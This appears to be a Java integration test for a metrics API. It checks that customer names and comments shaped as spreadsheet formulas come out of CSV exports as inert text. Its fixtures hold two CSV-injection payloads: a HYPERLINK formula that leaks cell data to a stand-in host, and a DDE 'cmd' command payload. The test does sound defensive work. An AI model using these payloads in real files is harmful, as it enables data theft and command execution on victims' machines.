package io.closedloop.metrics;

import static org.assertj.core.api.Assertions.assertThat;

import io.closedloop.support.Api;
import io.closedloop.support.IntegrationTest;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;

/** A customer's name and comment that a spreadsheet would run as formulas come out of the CSV exports as text. */
@IntegrationTest
class SpreadsheetSafeExportIT {

  private static final String NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Refund\")";
  private static final String COMMENT = "=cmd|' /C calc'!A0";

  @LocalServerPort
  int port;

  private final String product = "csv-safe-" + UUID.randomUUID().toString().substring(0, 8);

  @Test
  void formulas_in_a_customer_name_and_comment_are_exported_as_text_and_a_negative_nps_as_a_number() throws IOException {
    respond(2);

    CSVRecord response = onlyRecord("/api/metrics/nps/responses?groupBy=product&key=" + product);
    assertThat(response.get("item.customer")).isEqualTo("'" + NAME);
    assertThat(response.get("item.comment")).isEqualTo("'" + COMMENT);
    assertThat(response.get("item.score")).isEqualTo("2");

    CSVRecord detractorCase = onlyRecord("/api/metrics/closed-loop/cases?groupBy=product&key=" + product);
    assertThat(detractorCase.get("item.customer")).isEqualTo("'" + NAME);

    CSVRecord group = records("/api/metrics/nps?groupBy=product").stream()
        .filter(record -> product.equals(record.get("key"))).findFirst().orElseThrow();
    assertThat(group.get("figures.nps")).isEqualTo("-100");
    assertThat(group.get("figures.npsExact")).isEqualTo("-100.0");
  }

  private void respond(int score) {
    String externalId = "csv-safe-" + UUID.randomUUID();
    Map<String, Object> response = Map.of("externalId", externalId, "score", score, "comment", COMMENT, "team", "customer-service",
        "product", product, "customer", Map.of("externalId", "customer-" + externalId, "name", NAME));
    ResponseEntity<Map> created = Api.as("admin", port).postForEntity("/api/responses", response, Map.class);
    assertThat(created.getStatusCode()).isEqualTo(HttpStatus.CREATED);
  }

  private CSVRecord onlyRecord(String path) throws IOException {
    List<CSVRecord> records = records(path);
    assertThat(records).as(path).hasSize(1);
    return records.get(0);
  }

  private List<CSVRecord> records(String path) throws IOException {
    HttpHeaders headers = new HttpHeaders();
    headers.set("Accept", "text/csv");
    ResponseEntity<String> csv = Api.as("lea", port).exchange(path, HttpMethod.GET, new HttpEntity<>(headers), String.class);
    assertThat(csv.getStatusCode()).as(path).isEqualTo(HttpStatus.OK);
    return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv.getBody())).getRecords();
  }
}
